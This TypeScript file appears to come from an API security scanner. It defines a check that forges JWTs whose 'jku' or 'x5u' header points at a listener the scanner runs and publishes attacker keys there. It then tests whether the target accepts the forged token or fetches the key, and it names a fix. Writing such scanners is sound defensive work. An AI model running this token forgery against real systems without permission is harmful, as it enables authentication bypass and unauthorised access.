import type { Attack } from '../../attack.ts'
import type { Listener } from '../../listeners/listener.ts'
import { outerListener } from '../../listeners/our-listeners.ts'
import { saying } from '../../listeners/replies.ts'
import { fail, pass } from '../../verdict.ts'
import { type AttackerKey, attackerKeys } from './attacker-keys.ts'
import { signedToken } from './jwt.ts'
import { jwtTarget, TARGET_REQUESTS, tokenCases } from './token-target.ts'
import { CAUSE_REQUESTS, tryForgeries } from './try-tokens.ts'

export const keyUrl: Attack = {
  id: 'key-url',
  number: 33,
  risk: 'API2',
  severity: 'critical',
  cwe: 918,
  title: 'A token is verified with a key from an address that it names itself',
  references: ['OWASP API2:2023', 'RFC 8725 section 3.10', 'ASVS 5.0 9.1.3'],
  maxRequests: TARGET_REQUESTS + 4 + CAUSE_REQUESTS,
  oracle:
    'A token signed with our key is taken while `jku` or `x5u` names our listener; or, less grave, the listener is asked for the key.',
  fix: 'Fetch keys from addresses that are configured; ignore or refuse `jku` and `x5u`.',
  phase: 'normal',
  cases: (plan) => tokenCases(plan),
  async run({ operation, owner }, probe) {
    if (!operation) return pass()
    const target = await jwtTarget(operation, owner, probe)
    const { jwt, baseline } = target
    const listener = await outerListener(probe)
    const places = (await attackerKeys(jwt, probe)).flatMap((key) => publish(listener, key, probe.nonce()))
    const forgeries = places.map(({ key, member, path }) => ({
      told: `signed with a key from its own ${member}`,
      token: signedToken(
        { ...jwt.header, alg: key.alg, kid: key.kid, [member]: listener.url(path) },
        jwt.claims,
        key.privateKey,
      ),
    }))
    const verdict = await tryForgeries(probe, target, forgeries)
    const fetched = places.find(({ path }) => listener.hits(path).length > 0)
    if (verdict.outcome !== 'pass' || fetched === undefined) return verdict
    return {
      ...fail(
        `the API fetches the address in ${fetched.member} of a token that nobody has verified`,
        baseline.control.answer,
      ),
      severity: 'high',
      evidence: verdict.evidence,
    }
  },
}

interface Place {
  readonly key: AttackerKey
  readonly member: 'jku' | 'x5u'
  readonly path: string
}

function publish(listener: Listener, key: AttackerKey, nonce: string): readonly Place[] {
  const pem = `-----BEGIN CERTIFICATE-----\n${key.certificate.toString('base64').replaceAll(/.{64}/g, '$&\n')}\n-----END CERTIFICATE-----\n`
  const [jku, x5u] = [`/${nonce}/jwks.json`, `/${nonce}/key.pem`]
  listener.answer(jku, saying(JSON.stringify({ keys: [key.jwk] })))
  listener.answer(x5u, saying(pem, 'application/x-pem-file'))
  return [
    { key, member: 'jku', path: jku },
    { key, member: 'x5u', path: x5u },
  ]
}
